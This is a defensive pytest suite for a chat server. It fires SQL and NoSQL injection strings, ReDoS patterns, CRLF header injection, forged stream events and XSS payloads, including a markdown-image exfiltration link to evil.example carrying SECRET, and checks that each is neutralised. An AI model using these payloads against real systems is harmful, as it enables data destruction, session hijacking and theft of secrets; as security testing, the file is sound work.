"""Attacks by text: what somebody wrote, or a model, is never anything but text. The numbers are the checklist's."""

import json
import re
from collections.abc import AsyncIterator
from html.parser import HTMLParser

import pytest
from websockets.asyncio.client import connect

from tests.support.app import Parley, parley
from tests.support.databases import EVERY_DATABASE
from tests.support.provider import ScriptedProvider

META = [
    "' OR '1'='1",
    "'; DROP TABLE conversations; --",
    "%",
    "_",
    "%" * 10_000,
    "\\",
    "\\%",
    "a & b | !c",
    "((((",
    ":*",
    "<->",
    '" OR ""="',
    "$.a[*]",
    ".*",
    "(a+)+$",
    "[",
    "*" * 999,
    "NEAR(",
    '{"$ne": null}',
    "\x1f",
    "\u202e",
    "😀",
]
FORGED = 'one\n\nevent: done\ndata: [DONE]\n\nid: 99\r\n{"done": true}\u2028\u2029\x0b\x0c\x85 two'
XSS = "<img src=x onerror=alert(1)> <svg/onload=alert(2)> [a](javascript:alert(3)) </script><script>alert(4)</script>"


@pytest.fixture
async def told() -> AsyncIterator[tuple[Parley, ScriptedProvider]]:
    """Where the model says whatever it was asked."""
    async with ScriptedProvider() as provider:
        provider.default = provider.default.__class__(echo=True)
        settings = {"openai_api_key": "sk-of-this-test", "openai_base_url": provider.url, "model": "openai:echo"}
        async with parley(**settings) as app:
            yield app, provider


@EVERY_DATABASE
async def test_21_and_22_what_means_something_to_a_database_is_looked_for_as_it_is(app: Parley) -> None:
    for words in ("plain", "100% sure_thing", "a & b | !c"):
        await app.http.post("/conversations", json={"title": words, "user_id": words})
    for words in META:
        body = {"title": words[:200], "user_id": words[:200]} if words.isprintable() else {"title": "x"}
        made = await app.http.post("/conversations", json=body)
        assert made.status_code in (200, 201, 422), words
        for name in ("q", "user_id"):
            found = await app.http.get("/conversations", params={name: words})
            assert found.status_code in (200, 422), (name, words)
            if found.status_code == 200 and name == "q" and words.strip():
                assert all(words.casefold() in each["title"].casefold() for each in found.json()), words
        for name in ("before", "sort"):
            assert (await app.http.get("/conversations", params={name: words})).status_code in (200, 422)
        for path in ("/search", "/v1/conversations"):
            for name in ("q", "after", "doc_id"):
                answered = await app.http.get(path, params={name: words[:1000]})
                assert answered.status_code < 500, (path, name, words)
    deep = '{"and": [' * 1000 + '"x"' + "]}" * 1000
    for filter in (deep, '{"$where": "1"}', '{"type": "regex", "key": "a", "value": "(a+)+$"}'):
        asked = f'{{"model": "demo:parrot", "input": "x", "tools": [{{"type": "file_search", "filters": {filter}}}]}}'
        headers = {"content-type": "application/json"}
        assert (await app.http.post("/v1/responses", content=asked, headers=headers)).status_code == 400
    nested = await app.http.post("/v1/conversations", content=f'{{"metadata": {deep}}}', headers=headers)
    assert nested.status_code == 400
    assert (await app.http.get("/conversations")).status_code == 200


async def test_23_no_header_is_written_by_who_asks(told: tuple[Parley, ScriptedProvider]) -> None:
    app, provider = told
    for id in ("a b", "x" * 200, "a;b", "\u00e9", "<script>", "%0d%0aset-cookie:a=b"):
        answered = await app.http.get("/health/live", headers=[(b"x-request-id", id.encode())])
        assert re.fullmatch(r"req_[0-9a-f]{24}", answered.headers["x-request-id"]), id
    for model in ("openai:a\r\nx-evil: 1", "openai:a\nb", "openai:\x00"):
        body = {"model": model, "messages": [{"role": "user", "content": "x"}]}
        for path in ("/chat", "/v1/chat/completions"):
            answered = await app.http.post(path, json=body)
            assert answered.status_code in (400, 404, 422), (path, model)
            assert "x-evil" not in answered.headers
    for path in ("/a%0d%0aset-cookie:%20a=b", "/conversations?before=%0d%0ax-evil:1", "/auth/oidc/login%0d%0ax:y"):
        answered = await app.http.get(path)
        assert answered.status_code in (403, 404, 422)
        assert not {"x-evil", "set-cookie", "x"} & set(answered.headers)
    assert all("x-evil" not in call.headers for call in provider.calls)


async def test_24_and_25_text_does_not_break_out_of_its_event_or_line(told: tuple[Parley, ScriptedProvider]) -> None:
    app, _ = told
    sse = (await app.http.get("/chat/sse", params={"prompt": FORGED})).text
    events = [block.split("\n") for block in sse.split("\n\n") if block]
    kinds = [line for block in events for line in block if line.startswith("event:")]
    assert kinds.count("event: done") == 1
    assert kinds[-1] == "event: done"
    said = [line[6:] for block in events for line in block if line.startswith("data: {")]
    assert "".join(json.loads(each)["token"] for each in said) == FORGED

    for body in ({"message": FORGED}, {"messages": [{"role": "user", "content": FORGED}]}):
        lines = (await app.http.post("/chat/stream", json=body)).content.split(b"\n")
        parsed = [json.loads(line) for line in lines if line]
        assert "".join(each.get("token", "") for each in parsed) == FORGED
        assert [("done" in each) for each in parsed] == [False] * (len(parsed) - 1) + [True]
        assert "\u2028".encode() not in b"".join(lines) or len(parsed) == len([line for line in lines if line])

    asked = {"model": "openai:echo", "stream": True, "messages": [{"role": "user", "content": FORGED}]}
    chunks = (await app.http.post("/v1/chat/completions", json=asked)).content.split(b"\n\n")
    assert [chunk for chunk in chunks if chunk and not chunk.startswith((b"data: {", b":"))] == [b"data: [DONE]"]

    async with connect(app.url.replace("http", "ws") + "/ws/chat") as socket:
        await socket.send(json.dumps({"message": FORGED}))
        tokens = ""
        while (frame := json.loads(await socket.recv()))["type"] != "done":
            tokens += frame.get("content", "")
        assert tokens == FORGED


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[str] = []

    def handle_starttag(self, tag: str, attributes: object) -> None:
        self.seen.append(tag)


async def test_26_and_27_what_somebody_wrote_is_never_a_page(told: tuple[Parley, ScriptedProvider]) -> None:
    app, provider = told
    leak = f"{XSS} ![x](https://evil.example/?d=SECRET) ![y][1]\n\n[1]: https://evil.example/2 https://evil.example/3"
    made = await app.http.post("/conversations", json={"title": XSS, "user_id": "<b>"})
    asked = await app.http.post("/chat", json={"message": leak, "conversation_id": made.json()["id"]})
    assert asked.json()["reply"] == leak  # kept and told as it is: whoever shows it decides what of it to load
    before = len(provider.calls)
    html = {"accept": "text/html,application/xhtml+xml"}
    for path in (
        "/conversations",
        f"/conversations/{made.json()['id']}",
        f"/conversations/{made.json()['id']}/messages",
        f"/runs/{asked.json().get('run_id') or 1}/events",
        f"/nothing/{XSS}",
        f"/conversations/{XSS}",
    ):
        answered = await app.http.get(path, headers=html)
        kind = answered.headers["content-type"]
        if kind.startswith("text/html"):  # the page itself, the same for every address
            tags = Tags()
            tags.feed(answered.text)
            assert "img" not in tags.seen
            assert "alert(" not in answered.text
            continue
        assert "json" in kind or kind.startswith("text/event-stream"), (path, kind)
        assert answered.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answered.headers["content-security-policy"]
    assert len(provider.calls) == before  # nothing that stands in an answer is fetched
    policy = (await app.http.get("/", headers=html)).headers["content-security-policy"]
    images = next((each for each in policy.split(";") if "img-src" in each), "default")
    assert "*" not in policy
    assert "http:" not in images
    assert "https:" not in images
